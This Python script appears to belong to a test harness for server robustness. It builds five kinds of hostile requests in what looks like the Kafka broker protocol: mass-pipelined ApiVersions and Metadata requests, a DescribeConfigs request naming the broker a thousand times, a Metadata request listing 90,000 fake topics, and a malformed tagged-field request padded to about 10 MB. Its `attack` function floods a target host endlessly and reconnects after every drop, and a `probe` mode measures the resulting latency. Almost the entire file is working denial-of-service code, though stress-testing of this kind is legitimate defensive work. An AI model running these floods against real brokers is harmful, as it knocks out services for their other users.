"""What one client may send to stop others, each as a process of its own: `python hostile_clients.py KIND HOST PORT`.

`probe` measures meanwhile: it sends a small request on its own connection again and again, for as many seconds as its
last argument says, and prints the milliseconds that each took as a JSON list.
"""

import json
import socket
import struct
import sys
import threading
import time

API_VERSIONS = 18
METADATA = 3
DESCRIBE_CONFIGS = 32
FIND_COORDINATOR = 10


def framed(body: bytes) -> bytes:
    return struct.pack(">i", len(body)) + body


def header(key: int, version: int, client_id: bytes = b"hostile") -> bytes:
    return struct.pack(">hhih", key, version, 1, len(client_id)) + client_id


def name(text: bytes) -> bytes:
    return struct.pack(">h", len(text)) + text


def pipelined_api_versions() -> bytes:
    return framed(header(API_VERSIONS, 0)) * 2000


def pipelined_metadata() -> bytes:
    return framed(header(METADATA, 1) + struct.pack(">i", 0)) * 2000


def the_broker_a_thousand_times() -> bytes:
    resource = struct.pack(">b", 4) + name(b"1") + struct.pack(">i", -1)
    return framed(header(DESCRIBE_CONFIGS, 0) + struct.pack(">i", 1000) + resource * 1000)


def many_names() -> bytes:
    names = b"".join(name(b"no-such-%07d" % number) for number in range(90_000))
    return framed(header(METADATA, 4) + struct.pack(">i", 90_000) + names + b"\0")


def tagged_fields() -> bytes:
    body = struct.pack(">hhih", API_VERSIONS, 3, 1, 1) + b"h" + b"\x80\xad\xe2\x04" + b"\0\0" * 5_000_000
    return framed(body)


KINDS = {
    made.__name__: made
    for made in (pipelined_api_versions, pipelined_metadata, the_broker_a_thousand_times, many_names, tagged_fields)
}


def drain(sock: socket.socket) -> None:
    try:
        while sock.recv(1 << 20):
            pass
    except OSError:
        return


def attack(data: bytes, host: str, port: int) -> None:
    """Sends it again and again, reading the answers; a connection that was closed is opened again."""
    while True:
        with socket.create_connection((host, port)) as sock:
            reader = threading.Thread(target=drain, args=(sock,), daemon=True)
            reader.start()
            try:
                while reader.is_alive():
                    sock.sendall(data)
            except OSError:
                continue


def probe(host: str, port: int, seconds: float) -> list[float]:
    request, waits = framed(header(API_VERSIONS, 0, b"probe")), []
    with socket.create_connection((host, port)) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            began = time.monotonic()
            sock.sendall(request)
            size = struct.unpack(">i", sock.recv(4, socket.MSG_WAITALL))[0]
            sock.recv(size, socket.MSG_WAITALL)
            waits.append((time.monotonic() - began) * 1000)
            time.sleep(0.002)
    return waits


if __name__ == "__main__":
    kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if kind == "probe":
        print(json.dumps(probe(host, port, float(sys.argv[4]))))
    else:
        attack(KINDS[kind](), host, port)
